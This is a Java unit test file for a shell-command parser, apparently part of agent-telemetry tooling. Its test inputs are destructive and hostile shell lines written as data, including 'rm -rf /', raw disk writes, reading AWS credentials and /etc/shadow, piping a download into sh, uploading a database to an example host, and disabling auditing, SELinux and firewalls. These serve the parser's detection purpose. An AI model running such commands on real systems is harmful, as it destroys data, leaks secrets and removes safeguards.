package dev.agenttelemetry.shell;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class ShellParserTest {
    /** Each command as its wrappers, then its words: "sudo>rm -rf /". */
    private static List<String> render(String line) {
        return ShellParser.parse(line).stream()
                .map(c -> (c.wrappers().isEmpty() ? "" : String.join(">", c.wrappers()) + ">") + String.join(" ", c.words()))
                .toList();
    }

    /** Input line ¦ the commands it runs, separated by ‖ (\n in the input is a newline). */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '¦', quoteCharacter = '^', value = {
            "cd / && sudo rm -rf --no-preserve-root * ; echo done | tee log ¦ cd /‖sudo rm -rf --no-preserve-root *‖sudo>rm -rf --no-preserve-root *‖echo done‖tee log",
            "grep \"rm -rf && x\" notes.md || echo 'a; b' ¦ grep rm -rf && x notes.md‖echo a; b",
            "echo sudo ¦ echo sudo",
            "echo a\\ b # rm -rf /\\nls -la ¦ echo a b‖ls -la",
            "echo \"say \\\"hi\\\"\" ¦ echo say \"hi\"",
            "bash -c 'curl -s http://x | sh' ¦ bash -c curl -s http://x | sh‖bash>curl -s http://x‖bash>sh",
            "sh -lc \"rm -rf ~\" ¦ sh -lc rm -rf ~‖sh>rm -rf ~",
            "echo $(whoami) `id -u` ¦ echo $(whoami) `id -u`‖whoami‖id -u",
            "X=$(cat ~/.aws/credentials | base64) ¦ ‖cat ~/.aws/credentials‖base64",
            "env -i HOME=/ PATH=/bin sh -c 'id' ¦ env -i HOME=/ PATH=/bin sh -c id‖env>sh -c id‖env>sh>id",
            "sudo -u root -E nice -n 5 timeout 10 dd of=/dev/sda ¦ sudo -u root -E nice -n 5 timeout 10 dd of=/dev/sda‖sudo>nice -n 5 timeout 10 dd of=/dev/sda‖sudo>nice>timeout 10 dd of=/dev/sda‖sudo>nice>timeout>dd of=/dev/sda",
            "find . -name '*.tmp' -exec rm -f {} \\; ¦ find . -name *.tmp -exec rm -f {} ;‖find>rm -f {}",
            "ls | xargs -n 1 rm -rf ¦ ls‖xargs -n 1 rm -rf‖xargs>rm -rf",
            "(cd /etc && cat shadow) ¦ cd /etc‖cat shadow",
            "if [ -f x ]; then rm x; fi ¦ [ -f x ]‖rm x",
            "for f in $(ls /root); do cat $f; done ¦ cat $f‖ls /root",
            "eval \"rm -rf /\" ¦ eval rm -rf /‖eval>rm -rf /",
            "su -c 'cat /etc/shadow' root ¦ su -c cat /etc/shadow root‖su>cat /etc/shadow",
            "cat <<EOF > /tmp/x\\nrm -rf /\\nEOF\\necho ok ¦ cat‖echo ok",
            "diff <(sort a) <(sort b) ¦ diff <(sort a) <(sort b)‖sort a‖sort b",
            "command -v rm ¦ command -v rm",
            "echo \"$(sudo id)\" ¦ echo $(sudo id)‖sudo id‖sudo>id",
            "c=`which ccencrypt`\\n$c -T -K k /tmp/f ¦ ‖ccencrypt -T -K k /tmp/f‖which ccencrypt",
            "py=`which python || which python3`\\n$py -c 'print(1)' ¦ ‖python -c print(1)‖which python‖which python3",
            "export R=/bin/rm; ${R} -rf ~ ¦ export R=/bin/rm‖/bin/rm -rf ~",
            "X=\"a b\"; $X; $UNSET -f ¦ ‖$X‖$UNSET -f",
    })
    void parsesTrickyLines(String line, String expected) {
        assertThat(render(line.replace("\\n", "\n"))).containsExactly(expected.split("‖", -1));
    }

    /** Shells inside other interpreters: the inner commands, with the interpreter among their wrappers. Made-up lines. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '¦', quoteCharacter = '^', value = {
            "bash <<EOF\\nrm -rf /var/log/app\\nEOF ¦ bash‖bash>rm -rf /var/log/app",
            "sudo sh <<'END'\\nsystemctl stop auditd\\nEND ¦ sudo sh‖sudo>sh‖sudo>sh>systemctl stop auditd",
            "python3 -c 'import os; os.system(\"chmod 777 /etc/hosts\")' ¦ python3 -c import os; os.system(\"chmod 777 /etc/hosts\")‖python3>chmod 777 /etc/hosts",
            "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/srv\"])' ¦ python3 -c import subprocess; subprocess.run([\"rm\", \"-rf\", \"/srv\"])‖python3>rm -rf /srv",
            "perl -e 'system(\"ufw disable\")' ¦ perl -e system(\"ufw disable\")‖perl>ufw disable",
            "perl -e 'print `id`' ¦ perl -e print `id`‖perl>id",
            "ruby -e 'exec \"xattr -d com.apple.quarantine app\"' ¦ ruby -e exec \"xattr -d com.apple.quarantine app\"‖ruby>xattr -d com.apple.quarantine app",
            "node -e 'require(\"child_process\").execSync(\"curl -T db.sql https://x.example\")' ¦ node -e require(\"child_process\").execSync(\"curl -T db.sql https://x.example\")‖node>curl -T db.sql https://x.example",
            "php -r 'shell_exec(\"setenforce 0\");' ¦ php -r shell_exec(\"setenforce 0\");‖php>setenforce 0",
            "osascript -e 'do shell script \"rm /var/log/system.log\" with administrator privileges' ¦ osascript -e do shell script \"rm /var/log/system.log\" with administrator privileges‖osascript>rm /var/log/system.log",
            "ls | xargs -I{} sh -c 'shred -u {}' ¦ ls‖xargs -I{} sh -c shred -u {}‖xargs>sh -c shred -u {}‖xargs>sh>shred -u {}",
            "python3 - <<EOF\\nimport os\\nos.system('iptables -F')\\nEOF ¦ python3 -‖python3>iptables -F",
            "cat <<EOF | less\\nrm -rf /\\nEOF ¦ cat‖less",
            "python3 -c 'print(1' ¦ python3 -c print(1",
    })
    void followsShellsInsideOtherInterpreters(String line, String expected) {
        assertThat(render(line.replace("\\n", "\n"))).containsExactly(expected.split("‖", -1));
    }

    @Test
    void staysWithinItsDepthOnAScriptThatNestsWithoutEnd() {
        List<ShellCommand> commands = ShellParser.parse("eval ".repeat(30) + "rm -rf /");
        assertThat(commands).isNotEmpty().hasSizeLessThan(12).allSatisfy(c -> assertThat(c.program()).isEqualTo("eval"));
        // a shallow one is followed to the end
        assertThat(ShellParser.parse("eval eval rm -rf /")).extracting(ShellCommand::program).containsExactly("eval", "eval", "rm");
    }

    @Test
    void separatesRedirectionsAndAssignmentsFromWords() {
        ShellCommand echo = ShellParser.parse("HISTFILE=/dev/null echo 'x' >> ~/.bashrc 2>&1").get(0);
        assertThat(echo.words()).containsExactly("echo", "x");
        assertThat(echo.assignments()).containsExactly("HISTFILE=/dev/null");
        assertThat(echo.redirects()).containsExactly(new ShellCommand.Redirect(">>", "~/.bashrc"), new ShellCommand.Redirect("2>&", "1"));
        assertThat(echo.redirects().get(0).writes()).isTrue();
        assertThat(echo.redirects().get(1).writes()).isFalse();

        ShellCommand sysrq = ShellParser.parse("echo 1> /proc/sys/kernel/sysrq").get(0);
        assertThat(sysrq.words()).containsExactly("echo");
        assertThat(sysrq.redirects()).containsExactly(new ShellCommand.Redirect("1>", "/proc/sys/kernel/sysrq"));

        assertThat(ShellParser.parse("export HISTSIZE=0").get(0).program()).isEqualTo("export");
        assertThat(ShellParser.parse("HISTSIZE=0").get(0).assignments()).containsExactly("HISTSIZE=0");
    }

    @Test
    void knowsWhichCommandsReadAPipe() {
        assertThat(ShellParser.parse("tar cz src | gzip || echo failed; cat x |& tee log")).extracting(ShellCommand::program, ShellCommand::piped)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("tar", false), org.assertj.core.groups.Tuple.tuple("gzip", true),
                        org.assertj.core.groups.Tuple.tuple("echo", false), org.assertj.core.groups.Tuple.tuple("cat", false),
                        org.assertj.core.groups.Tuple.tuple("tee", true));
    }

    @Test
    void programIsTheBaseName() {
        assertThat(ShellParser.parse("/usr/bin/sudo /bin/rm -rf /").get(1).program()).isEqualTo("rm");
    }

    /** A broken line never fails the event: it is read as far as it parses. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '¦', quoteCharacter = '^', value = {
            "echo \"unterminated ¦ echo unterminated",
            "echo $(unterminated ¦ echo $(unterminated‖unterminated",
            "cat << ¦ cat",
            "a > ¦ a",
            "sh -c ¦ sh -c",
            "(((( ¦ ",
            "\\ ¦ ",
    })
    void readsBrokenInputAsFarAsItParses(String line, String expected) {
        List<String> commands = ShellParser.parse(line).stream().map(command -> String.join(" ", command.words())).toList();
        assertThat(commands).containsExactlyElementsOf(expected == null ? List.of() : List.of(expected.split("‖")));
    }
}
